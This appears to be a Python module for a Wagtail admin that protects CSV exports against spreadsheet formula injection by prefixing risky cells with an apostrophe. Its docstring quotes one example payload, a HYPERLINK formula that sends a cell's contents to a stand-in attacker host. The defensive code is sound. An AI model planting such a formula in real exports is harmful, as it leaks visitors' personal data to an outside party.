"""Spreadsheet exports that a spreadsheet program cannot run as code.

Visitors write the names, e-mails and notes the admin exports; a cell that starts with `=`,
`+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel and LibreOffice
(`=HYPERLINK("https://evil.example?"&A2, "CV")`). Following OWASP's advice on CSV injection,
such a cell gets a leading apostrophe, so it shows as the text that was typed. Wagtail's XLSX
export already stores formulas as text; its CSV export writes them as they are.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        return neutralise_formula(value) if export_format == self.FORMAT_CSV else value
